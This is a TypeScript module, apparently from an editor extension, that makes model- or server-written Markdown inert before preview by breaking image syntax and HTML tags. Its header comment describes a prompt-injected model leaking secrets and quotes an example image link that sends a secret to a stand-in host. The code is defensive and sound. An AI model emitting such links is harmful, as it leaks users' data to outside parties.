/**
 * Markdown that someone else wrote (the model, steerable by the code and
 * pages it read; an MCP server; a pasted page), made inert before Hearth
 * puts it where a Markdown renderer will show it without asking: VS Code's
 * Markdown preview loads https images, media and styles, and renders raw
 * HTML, so `![](https://host/?q=<secret>)` or `<img src=…>` in an exported
 * chat would send what the model read to that host as soon as the export is
 * previewed, and a review comment would do the same when its thread is shown.
 *
 * What changes: every `![` (an image, inline or by reference) becomes a plain
 * link, and every `<` that could open an HTML tag, comment or autolink shows
 * as text, each by a zero-width space after its first character. A backslash
 * would not do: one the author put before it cancels it. Everything else,
 * and the visible text, stays as written.
 *
 * Code blocks fenced at the start of a line are left exactly as written, so
 * code can be copied out of them: nothing inside renders as HTML anyway. Only
 * those: a fence indented into a list item or a quote ends when that
 * container ends, which a line-by-line reading cannot tell, so such blocks
 * get the zero-width spaces too (invisible when shown). A fence is taken to
 * close on any line of its own character at least as long, however
 * indented: closing earlier than a renderer would only makes more text inert.
 * A fence left open at the end is closed, so it cannot swallow what follows.
 *
 * All of that holds only for text that starts a line of its own. Text put
 * after something else on its line (a bold title, `> `, a heading's `# `)
 * takes inertInlineMarkdown: there a line of backticks opens no code block,
 * so exempting what follows it would leave its images and HTML live.
 */
const ZERO_WIDTH_SPACE = '\u200B';

/** `<` before a letter, `/`, `!` or `?`: an HTML tag, closing tag, comment or declaration, or an autolink. */
const TAG_OPENING = /<(?=[A-Za-z/!?])/g;
const IMAGE_OPENING = /!\[/g;
/** A fence opening at the very start of a line; a backtick fence's info string may not hold a backtick. */
const OPENING_FENCE = /^(`{3,}|~{3,})(.*)$/;

function inertLine(line: string): string {
  return line.replace(IMAGE_OPENING, `!${ZERO_WIDTH_SPACE}[`).replace(TAG_OPENING, `<${ZERO_WIDTH_SPACE}`);
}

/** True when `line` closes a fence opened by `fence` (its character, at least as long, nothing after but spaces). */
function closes(line: string, fence: string): boolean {
  const trimmed = line.trim();
  return trimmed.length >= fence.length && trimmed === fence[0].repeat(trimmed.length);
}

export function inertMarkdown(markdown: string): string {
  const out: string[] = [];
  let fence: string | undefined;
  for (const line of markdown.split('\n')) {
    if (fence) {
      out.push(line);
      if (closes(line, fence)) fence = undefined;
      continue;
    }
    const opening = OPENING_FENCE.exec(line);
    if (opening && !(opening[1][0] === '`' && opening[2].includes('`'))) {
      fence = opening[1];
      out.push(line);
      continue;
    }
    out.push(inertLine(line));
  }
  if (fence) out.push(fence);
  return out.join('\n');
}

/**
 * Markdown that goes after other text on its line (see the module comment):
 * every line made inert, since no fence in it can be relied on to be one.
 */
export function inertInlineMarkdown(markdown: string): string {
  return markdown.split('\n').map(inertLine).join('\n');
}
